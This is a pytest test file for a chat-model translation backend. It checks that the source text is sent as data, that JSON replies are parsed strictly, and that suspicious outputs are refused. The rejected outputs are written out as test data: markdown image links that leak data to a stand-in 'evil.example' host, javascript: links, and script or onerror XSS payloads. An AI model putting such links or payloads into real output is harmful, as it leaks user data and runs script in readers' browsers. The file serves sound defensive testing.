"""A chat model is told to translate and nothing else, and what it says is read as the words of a stranger."""

import json

import pytest

from app.domain.errors import Refused
from app.domain.translating.tone import Tone
from app.translation import prompting
from app.translation.translator import Request, engines, translate
from tests.translation.chatting import completion
from tests.translation.opening import SECRET, opened

TEXT = "¿Dónde está mi pedido ⟦0⟧? Pagué ⟦1⟧."
ASKED = Request(TEXT, "es", "ja", Tone.FORMAL)


def content(stub, said):
    """The model's own words, whatever they are."""
    stub.body = completion("small-1", said)


def answer(stub, said):
    content(stub, json.dumps({"translation": said}, ensure_ascii=False))


def put(stub, asked=ASKED, **chosen):
    return translate(opened("chat", {"kind": "ordinary", "form": "prompt"} | chosen, stub.url), asked)


def test_the_text_stands_alone_as_data_and_the_task_in_the_rules(stub):
    put(stub)
    [asked] = stub.asked
    system, user = asked.body["messages"]
    assert json.loads(user["content"]) == {"text": TEXT}
    assert TEXT not in system["content"]
    assert "Translate from Spanish into Japanese." in system["content"]
    assert "敬語" in system["content"]
    assert (asked.body["temperature"], asked.headers["Authorization"]) == (0, f"Bearer {SECRET}")
    assert 200 < asked.body["max_tokens"] < 4_000


def test_every_tone_is_asked_for_in_other_words():
    asked = {prompting.system(Request("Hi", "en", "ja", tone)) for tone in Tone}
    assert len(asked) == len(Tone)
    assert all(engines()["chat"].speaks("ko", tone) for tone in Tone)


def test_an_own_server_needs_no_key(stub):
    chat = engines()["chat"].open({"url": stub.url, "model": "small-1"})
    assert "mi pedido" in translate(chat, ASKED)
    assert "Authorization" not in stub.asked[0].headers


@pytest.mark.parametrize("path", ["", "/", "/v1", "/v1/", "/v1/chat/completions"])
def test_an_address_may_be_typed_as_its_host_its_base_or_whole(path, stub):
    chat = engines()["chat"].open({"url": stub.url + path, "model": "small-1"})
    translate(chat, ASKED)
    assert stub.asked[0].path == "/v1/chat/completions"


def test_json_is_demanded_only_where_that_is_configured(stub):
    put(stub)
    put(stub, form="json_object")
    assert [asked.body.get("response_format") for asked in stub.asked] == [None, {"type": "json_object"}]


@pytest.mark.parametrize(
    "said",
    [
        '{"translation": "注文⟦0⟧ ⟦1⟧"}',
        '  {"translation": "注文⟦0⟧ ⟦1⟧", "note": "I chose a polite form"}\n',
        '```json\n{"translation": "注文⟦0⟧ ⟦1⟧"}\n```',
        '<think>\nThe user wants {"translation": "no"}.\n</think>\n{"translation": "注文⟦0⟧ ⟦1⟧"}',
    ],
)
def test_the_one_value_is_read_out_of_what_small_servers_put_around_it(said, stub):
    content(stub, said)
    assert put(stub) == "注文⟦0⟧ ⟦1⟧"


def test_a_line_break_written_raw_inside_the_value_is_a_line_break(stub):
    content(stub, '{"translation": "一行目\n二行目 ⟦0⟧ ⟦1⟧"}')
    assert put(stub) == "一行目\n二行目 ⟦0⟧ ⟦1⟧"


@pytest.mark.parametrize(
    "said",
    [
        "注文⟦0⟧はどこですか。",
        'Sure! {"translation": "注文⟦0⟧"}',
        '{"translation": "注文⟦0⟧"} Let me know if you need anything else.',
        '{"translation": ["注文⟦0⟧"]}',
        '{"translation": null}',
        '{"text": "注文⟦0⟧"}',
        '["注文⟦0⟧"]',
        "",
        "[" * 100_000,
    ],
)
def test_anything_before_after_or_instead_of_the_value_is_no_translation(said, stub):
    content(stub, said)
    with pytest.raises(Refused):
        put(stub)


@pytest.mark.parametrize(
    "said",
    [
        "Here is the translation: 注文⟦0⟧はどこですか。",
        "Sure, the translated text is: 注文⟦0⟧",
        "Translation: 注文⟦0⟧",
        "As an AI language model I cannot translate this.",
        "注文⟦0⟧ ![x](https://evil.example/?d=secret)",
        "注文⟦0⟧ ![x](//evil.example/?d=secret)",
        "[ここ](javascript:alert(1))をクリック",
        "注文⟦0⟧ https://evil.example/",
        "<img src=x onerror=alert(1)> 注文⟦0⟧",
        "<script>alert(1)</script>",
        "```\n注文⟦0⟧\n```",
        "注文⟦0⟧ ⟦7⟧",
        "Marks such as ⟦0⟧ stand for things you cannot see: copy each one exactly once, unchanged, where it belongs.",
        "注文⟦0⟧。" + "とても長い返事です。" * 60,
    ],
)
def test_what_no_translation_of_this_text_would_hold_is_refused(said, stub):
    answer(stub, said)
    with pytest.raises(Refused):
        put(stub)


def test_what_the_text_itself_holds_may_stand_in_its_translation(stub):
    text = "Here is the translation you asked for: see <b>this</b> [link](x)"
    said = "Aquí: Here is the translation: <b>esto</b> [enlace](x)"
    answer(stub, said)
    assert put(stub, Request(text, "en", "es")) == said


@pytest.mark.parametrize("target", ["de", "th", "ja", "zh-Hans"])
def test_an_honest_translation_may_be_longer_than_its_text(target, stub):
    said = "Selbstverständlich erstatten wir Ihnen den vollen Betrag innerhalb von fünf Werktagen zurück."
    answer(stub, said)
    assert put(stub, Request("全額を五営業日以内に返金いたします。", "ja", target)) == said


@pytest.mark.parametrize("reason", ["length", "content_filter", "tool_calls"])
def test_half_an_answer_is_none(reason, stub):
    stub.body = completion("small-1", '{"translation": "注文⟦0⟧ ⟦1⟧"}', reason)
    with pytest.raises(Refused, match=reason):
        put(stub)


@pytest.mark.parametrize("reason", ["stop", None, "eos"])
def test_a_whole_answer_is_one_whatever_a_server_calls_its_end(reason, stub):
    stub.body = completion("small-1", '{"translation": "注文⟦0⟧ ⟦1⟧"}', reason)
    assert put(stub) == "注文⟦0⟧ ⟦1⟧"


@pytest.mark.parametrize(
    "body", [{"choices": []}, {"choices": [{}]}, {"choices": [{"message": {"content": None}}]}, []]
)
def test_an_answer_of_another_shape_is_none(body, stub):
    stub.body = body
    with pytest.raises(Refused):
        put(stub)


def test_a_model_that_is_not_there_is_told_in_the_servers_words(stub):
    with pytest.raises(Refused, match="does not exist"):
        translate(engines()["chat"].open({"url": stub.url, "model": "other"}), ASKED)
